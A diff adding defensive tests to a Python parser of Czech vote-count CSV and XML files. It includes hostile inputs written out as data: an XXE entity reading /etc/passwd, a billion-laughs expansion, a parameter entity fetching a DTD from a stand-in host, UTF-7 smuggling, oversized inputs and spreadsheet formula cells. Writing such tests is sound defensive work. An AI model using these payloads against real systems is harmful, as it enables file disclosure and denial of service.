@@ -157,3 +157,55 @@ def test_nobody_voting_is_flagged_as_a_probable_mistake() -> None:
 def test_the_machines_own_numbers_are_compared() -> None:
     (ballot,) = read("Přítomno;Pro;Proti;Zdržel se;Nehlasoval\n20;12;0;6;0\n").ballots
     assert "dohromady 18, ale přítomných uvádí zařízení 20" in plain(" ".join(flags(ballot, 21)))
+
+
+HEAD = "Pro;Proti;Zdržel se\n"
+HOSTILE = {
+    "an entity from a file": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><Session>&x;</Session>',
+    "a billion laughs": '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><ballot aye="&b;"/>',
+    "a parameter entity": '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://zly.example/x.dtd"> %x;]><Session/>',
+    "a doctype alone": '<!DOCTYPE Session SYSTEM "x.dtd"><Session/>',
+    "an undeclared entity": "<Session>&zly;</Session>",
+    "a coding that nobody uses": '<?xml version="1.0" encoding="undefined"?><Session/>',
+    "a coding of other things": '<?xml version="1.0" encoding="rot13"?><Session/>',
+    "a coding of bytes": '<?xml version="1.0" encoding="hex"?><Session/>',
+    "a coding that smuggles": '<?xml version="1.0" encoding="utf-7"?><Session>+ADw-</Session>',
+    "a control character": "<Session>\x00</Session>",
+    "a half": "<Session><ballot",
+    "ballots one in another": "<Session>" + "<ballot>" * 3 + "</ballot>" * 3 + "</Session>",
+    "many ballots": "<Session>" + "<ballot/>" * 60_000 + "</Session>",
+    "deep elements": "<a>" * 150_000,
+    "a long attribute": f'<ballot aye="{"9" * 3_000_000}"/>',
+    "a long topic": f'<ballot aye="1" no="0" abstained="0"><topic>{"x" * 3_000_000}</topic></ballot>',
+    "many rows": HEAD + "x;y;z\n" * 66_000,
+    "many columns": ";".join(["Pro"] * 150_000) + "\n",
+    "an open quotation mark": HEAD + '"' + "1;" * 1_000_000,
+    "a long cell": HEAD + "1" * 200_000 + ";1;1\n",
+    "digits of another script": HEAD + "¹;٣;1\n",
+    "a number with a sign": HEAD + "-1;+1;1e3\n",
+    "an endless number": HEAD + "9" * 5_000 + ";1;1\n",
+    "a NUL": HEAD + "1\x00;1;1\n",
+    "years that are none": "Čas;Pro;Proti;Zdržel se\n31.2.2024 14:00;1;0;0\n0000-01-01;1;0;0\n99999;1;0;0\n",
+    "a time zone out of the world": "Čas;Pro;Proti;Zdržel se\n2024-01-01T00:00:00+99:99;1;0;0\n",
+}
+
+
+@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
+def test_a_hostile_file_is_answered_with_few_sentences_and_soon(text: str) -> None:
+    found = faults_of(text)
+    assert 1 <= len(found) <= 600
+    assert all(len(sentence) < 400 for _, sentence in found)
+
+
+@pytest.mark.parametrize(
+    "data",
+    [b"\xff\xfe<\x00a\x00", b"PK\x03\x04" + b"\x00" * 99, b"\x89PNG\r\n", b"\xff\xfe;\x00", b"%PDF-1.7"],
+)
+def test_what_is_no_table_and_no_xml_is_refused(data: bytes) -> None:
+    with pytest.raises(InputFaults):
+        read_votes(data, "obrazek.csv")
+
+
+def test_a_formula_of_a_machine_is_words_and_nothing_else() -> None:
+    (ballot,) = read("Předmět;Pro;Proti;Zdržel se;Výsledek\n=HYPERLINK(1);1;0;0;=1+1\n").ballots
+    assert (ballot.motion, ballot.said_result) == ("=HYPERLINK(1)", "=1+1")
